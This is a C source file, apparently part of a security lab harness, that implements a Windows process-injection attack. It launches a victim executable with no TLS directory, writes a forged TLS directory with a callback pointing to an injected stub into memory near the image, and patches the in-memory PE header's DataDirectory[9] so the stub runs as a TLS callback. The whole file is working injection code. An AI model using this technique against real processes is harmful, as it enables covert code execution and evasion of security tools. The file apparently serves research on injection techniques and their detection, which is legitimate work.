/* tls-directory-redirect.c - attack (c): the victim has no TLS directory.
 * Write a whole IMAGE_TLS_DIRECTORY64 (with its index slot and callback
 * array) into private memory near the image and point DataDirectory[9] of
 * the victim's in-memory header at it. */
#include "attack.h"
#include "inject.h"

struct tls_block {
    IMAGE_TLS_DIRECTORY64 dir;
    DWORD index;
    DWORD pad;
    ULONG_PTR callbacks[2];
};

int main(void)
{
    struct victim v;
    victim_start(&v, "victim-notls.exe");
    IMAGE_NT_HEADERS64 nt;
    ULONG_PTR nt_at;
    victim_headers(&v, &nt, &nt_at);
    if (nt.OptionalHeader.DataDirectory[IMAGE_DIRECTORY_ENTRY_TLS].VirtualAddress)
        lab_die("victim-already-has-tls");

    /* DataDirectory holds a 32-bit RVA: the block must lie above the image
     * base and within 4 GiB of it. Try addresses just past the image. */
    ULONG_PTR block_va = 0;
    ULONG_PTR try_at = (v.image_base + nt.OptionalHeader.SizeOfImage + 0xFFFF) & ~(ULONG_PTR)0xFFFF;
    for (int i = 0; i < 4096 && !block_va; i++, try_at += 0x10000)
        block_va = (ULONG_PTR)VirtualAllocEx(v.pi.hProcess, (LPVOID)try_at, 0x1000, MEM_COMMIT | MEM_RESERVE,
                                             PAGE_READWRITE);
    if (!block_va || block_va - v.image_base > 0xFFFFFFFFull)
        lab_die("VirtualAllocEx-near-image");

    ULONG_PTR stub = inj_place(v.pi.hProcess, 0, INJ_MODE_TLS, "tls-directory-redirect", NULL);
    if (!stub)
        lab_die("inj_place");
    struct tls_block b;
    memset(&b, 0, sizeof b);
    b.dir.AddressOfIndex = block_va + offsetof(struct tls_block, index);
    b.dir.AddressOfCallBacks = block_va + offsetof(struct tls_block, callbacks);
    b.callbacks[0] = stub;
    wr(&v, block_va, &b, sizeof b, "write-tls-directory");

    IMAGE_DATA_DIRECTORY dd = {(DWORD)(block_va - v.image_base), (DWORD)sizeof(IMAGE_TLS_DIRECTORY64)};
    ULONG_PTR dd_at = nt_at + offsetof(IMAGE_NT_HEADERS64, OptionalHeader) +
                      offsetof(IMAGE_OPTIONAL_HEADER64, DataDirectory) + IMAGE_DIRECTORY_ENTRY_TLS * sizeof dd;
    wr(&v, dd_at, &dd, sizeof dd, "patch-DataDirectory[9]");

    char detail[256];
    snprintf(detail, sizeof detail, "data_directory_9_at=0x%llx tls_directory=0x%llx rva=0x%lx injected=0x%llx",
             (unsigned long long)dd_at, (unsigned long long)block_va, dd.VirtualAddress, (unsigned long long)stub);
    victim_report(&v, detail);
    return victim_finish(&v);
}
